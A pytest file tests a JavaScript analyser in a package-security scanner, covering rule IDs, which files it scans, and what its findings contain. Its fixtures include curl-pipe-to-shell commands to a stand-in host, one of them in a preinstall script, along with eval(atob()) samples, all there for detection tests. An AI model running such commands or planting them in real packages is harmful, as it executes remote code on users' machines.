"""The analyser as the pipeline sees it: protocol, rules, which files it wants, findings'
shape."""

from __future__ import annotations

import re

import pytest

from stockade.analysis.interface import Analyzer
from stockade.analysis.javascript import RULES, JavaScriptAnalyzer
from stockade.analysis.javascript.rules import RULES_BY_ID
from stockade.analysis.model import Kind, Severity

from .helpers import archive, context, scan


def test_it_implements_the_analyzer_protocol() -> None:
    analyzer: Analyzer = JavaScriptAnalyzer()
    assert analyzer.name == "javascript"
    assert analyzer.rules is RULES


def test_rules_are_registered_once_with_a_js_prefix_and_one_sentence() -> None:
    ids = [rule.id for rule in RULES]
    assert len(ids) == len(set(ids)) == len(RULES_BY_ID)
    for rule in RULES:
        assert re.fullmatch(r"js-[a-z-]+", rule.id)
        assert rule.description.endswith(".")
        assert rule.description.count(". ") == 0, rule.id
    threats = {rule.id for rule in RULES if rule.kind is Kind.THREAT}
    assert "js-eval-decoded" in threats
    assert "js-child-process" not in threats
    assert all(
        rule.severity.rank <= Severity.MEDIUM.rank for rule in RULES if rule.kind is Kind.CAPABILITY
    )


@pytest.mark.parametrize(
    ("relpath", "wanted"),
    [
        ("package.json", True),
        ("index.js", True),
        ("lib/util.cjs", True),
        ("esm/index.mjs", True),
        ("dist/bundle.min.js", True),
        ("lib/nested/package.json", False),
        ("src/index.ts", False),
        ("types/index.d.ts", False),
        ("README.md", False),
        ("binding.node", False),
    ],
)
def test_wants_javascript_and_the_manifest(relpath: str, wanted: bool) -> None:
    assert JavaScriptAnalyzer().wants(relpath) is wanted


def test_findings_carry_path_line_snippet_message_and_phase() -> None:
    source = "const x = 1;\n" + 'require("child_process").exec("curl -s https://x.example | sh");\n'
    findings = scan({"setup.js": source}, install=["setup.js"])
    threat = next(f for f in findings if f.rule == "js-shell-download-exec")
    assert threat.path == "package/setup.js"
    assert threat.line == 2
    assert threat.snippet.startswith('require("child_process").exec(')
    assert len(threat.snippet) <= 160
    assert threat.message.endswith(".")
    assert threat.kind is Kind.THREAT
    assert threat.to_dict()["phase"] == "install"


def test_snippets_of_minified_lines_are_windows_around_the_code() -> None:
    source = "var a=1;" * 500 + 'eval(atob("ZXZhbCgp"));' + "var b=2;" * 500 + "\n"
    findings = scan({"dist/app.min.js": source})
    threat = next(f for f in findings if f.rule == "js-eval-decoded")
    assert "eval(atob(" in threat.snippet
    assert len(threat.snippet) <= 160


def test_manifest_from_the_context_is_used_when_the_archive_has_none() -> None:
    analyzer = JavaScriptAnalyzer()
    package = context(manifest={"scripts": {"preinstall": "curl http://x.example/a | sh"}})
    findings = analyzer.analyze(archive({"index.js": "module.exports = 1;\n"}), package)
    assert {f.rule for f in findings} == {"js-install-script", "js-shell-download-exec"}
    assert {f.path for f in findings} == {"package.json"}


def test_broken_manifest_and_broken_javascript_do_not_raise() -> None:
    findings = scan(
        {
            "package.json": "{ not json",
            "index.js": "function (( { eval(atob(x)",
            "empty.js": "",
            "bom.js": "\ufeffrequire('child_process').exec('ls');\n",
        }
    )
    assert {f.rule for f in findings} <= {"js-child-process", "js-eval-decoded", "js-dynamic-code"}
    assert any(f.rule == "js-child-process" and f.line == 1 for f in findings)
